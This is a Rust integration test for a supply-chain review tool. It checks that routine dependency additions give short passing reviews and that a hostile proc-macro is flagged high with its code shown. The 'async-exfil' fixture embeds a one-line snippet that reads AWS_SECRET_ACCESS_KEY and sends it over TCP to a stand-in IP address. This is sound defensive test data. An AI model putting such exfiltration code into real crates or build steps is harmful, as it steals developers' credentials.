//! Quiet on routine changes: adding an ordinary library and a proc-macro (a stand-in for
//! anyhow and async-trait: a proc-macro of 50 source files that only expands code) is a short
//! review that passes, a Markdown comment that fits GitHub, and a gate that says "passed" in a
//! few lines. The same change with a proc-macro whose code reads secrets and opens a socket is
//! still high and shows its code. Crates are served by a sparse registry on loopback.

mod common;

use common::*;
use std::path::Path;

const NOW: &str = "2026-11-25T12:00:00Z";

fn release(
    name: &str,
    version: &str,
    proc_macro: bool,
    files: Vec<(String, String)>,
) -> reflex::drill::registry::Publish {
    let lib = if proc_macro {
        "\n[lib]\nproc-macro = true\n"
    } else {
        ""
    };
    let mut all: Vec<(String, String)> = vec![(
        "Cargo.toml".into(),
        format!(
            "[package]\nname = \"{name}\"\nversion = \"{version}\"\nedition = \"2021\"\nlicense = \"MIT\"\ndescription = \"x\"\n{lib}"
        ),
    )];
    all.extend(files);
    reflex::drill::registry::Publish {
        name: name.into(),
        version: version.into(),
        registry: None,
        files: all.into_iter().collect(),
        pubtime: "2025-06-01T00:00:00Z".into(),
    }
}

/// A proc-macro crate with `n` source files of plain token manipulation.
fn expander(name: &str, n: usize, extra: &str) -> reflex::drill::registry::Publish {
    let mut files = vec![(
        "src/lib.rs".to_string(),
        format!(
            "extern crate proc_macro;\nuse proc_macro::TokenStream;\n{}\n#[proc_macro_attribute]\npub fn expand(_a: TokenStream, item: TokenStream) -> TokenStream {{\n    {extra}\n    item\n}}\n",
            (0..n)
                .map(|i| format!("mod part{i};"))
                .collect::<Vec<_>>()
                .join("\n")
        ),
    )];
    for i in 0..n {
        let body: String = (0..30)
            .map(|l| format!("pub fn f{l}(x: usize) -> usize {{ x.wrapping_mul({l}) + {i} }}\n"))
            .collect();
        files.push((format!("src/part{i}.rs"), body));
    }
    release(name, "0.1.92", true, files)
}

fn cargo(ws: &Path, registry: &str, args: &[&str]) {
    let out = cargo_against(ws, &ws.join("__cargo-home"), registry, args);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

fn reflex(ws: &Path, registry: &str, args: &[&str]) -> Run {
    let mut all = args.to_vec();
    all.extend(["--now", NOW, "--offline", "--cargo-home", "__cargo-home"]);
    run_with(
        ws,
        &all,
        &[("CARGO_REFLEX_CRATES_IO_INDEX", registry)],
        None,
    )
}

/// A committed app using `ordinary`, then a change adding `extra` dependencies.
fn scene(registry: &str, tmp: &Path, extra: &str) -> std::path::PathBuf {
    let ws = tmp.join("ws");
    std::fs::create_dir_all(ws.join("src")).unwrap();
    let manifest = "[package]\nname = \"svc\"\nversion = \"0.1.0\"\nedition = \"2021\"\npublish = false\n\n[dependencies]\nordinary = \"1\"\n";
    std::fs::write(ws.join("Cargo.toml"), manifest).unwrap();
    std::fs::write(ws.join("src/main.rs"), "fn main() {}\n").unwrap();
    std::fs::write(ws.join(".gitignore"), "/__cargo-home\n/__home\n").unwrap();
    cargo(&ws, registry, &["generate-lockfile"]);
    git(&ws, &["init", "-q", "-b", "main"]);
    git(&ws, &["add", "-A"]);
    git(&ws, &["commit", "-q", "-m", "base"]);
    std::fs::write(ws.join("Cargo.toml"), format!("{manifest}{extra}")).unwrap();
    cargo(&ws, registry, &["generate-lockfile"]);
    // Archives where the review reads them (cargo's cache under the given cargo home).
    cargo(&ws, registry, &["fetch"]);
    ws
}

fn registry() -> (String, reflex::drill::registry::Registry) {
    let (url, server) = server();
    server
        .publish(&[
            release("ordinary", "1.0.0", false, vec![("src/lib.rs".into(), "pub fn ok() {}\n".into())]),
            release("errorish", "1.0.100", false, vec![("src/lib.rs".into(), "pub struct Error;\n".into())]),
            expander("async-expand", 50, ""),
            expander(
                "async-exfil",
                50,
                "let k = std::env::var(\"AWS_SECRET_ACCESS_KEY\").unwrap_or_default(); let _ = std::net::TcpStream::connect((\"203.0.113.9\", 443)).map(|mut s| { use std::io::Write; s.write_all(k.as_bytes()) });",
            ),
        ])
        .unwrap();
    (url, server)
}

#[test]
fn routine_change_is_a_short_passing_review_and_gate() {
    let tmp = tempfile::tempdir().unwrap();
    let (url, _server) = registry();
    let ws = scene(
        &url,
        tmp.path(),
        "errorish = \"1\"\nasync-expand = \"0.1\"\n",
    );
    let review = reflex(&ws, &url, &["review"]);
    assert_eq!(review.code, 0, "{}{}", review.stdout, review.stderr);
    let lines = review.stdout.lines().count();
    assert!(lines <= 80, "{lines} lines:\n{}", review.stdout);
    assert!(
        !review.stdout.contains("HIGH") && !review.stdout.contains("+pub fn f0"),
        "{}",
        review.stdout
    );
    assert!(
        review.stdout.contains("`--diff` shows it"),
        "{}",
        review.stdout
    );
    let all = reflex(&ws, &url, &["review", "--diff"]);
    assert!(all.stdout.contains("+pub fn f0"), "--diff shows the code");
    let md = reflex(&ws, &url, &["review", "--format", "markdown", "--diff"]);
    assert!(md.stdout.len() <= 60_000, "{} characters", md.stdout.len());
    let gate = reflex(&ws, &url, &["gate", "--base", "HEAD"]);
    assert_eq!(gate.code, 0, "{}{}", gate.stdout, gate.stderr);
    assert!(gate.stdout.lines().count() <= 25, "{}", gate.stdout);
    assert!(gate.stdout.contains("passed"), "{}", gate.stdout);
    insta::assert_snapshot!("routine_review_human", review.stdout);
}

#[test]
fn the_same_change_with_a_hostile_proc_macro_is_high_and_shows_its_code() {
    let tmp = tempfile::tempdir().unwrap();
    let (url, _server) = registry();
    let ws = scene(
        &url,
        tmp.path(),
        "errorish = \"1\"\nasync-exfil = \"0.1\"\n",
    );
    let review = reflex(&ws, &url, &["review"]);
    assert_eq!(review.code, 1, "{}{}", review.stdout, review.stderr);
    assert!(
        review.stdout.contains("async-exfil 0.1.92 src/lib.rs"),
        "the risky proc-macro's code is shown: {}",
        review.stdout
    );
    let md = reflex(&ws, &url, &["review", "--format", "markdown"]);
    assert!(md.stdout.len() <= 60_000, "{} characters", md.stdout.len());
    assert!(md.stdout.contains("```diff"), "{}", md.stdout);
}
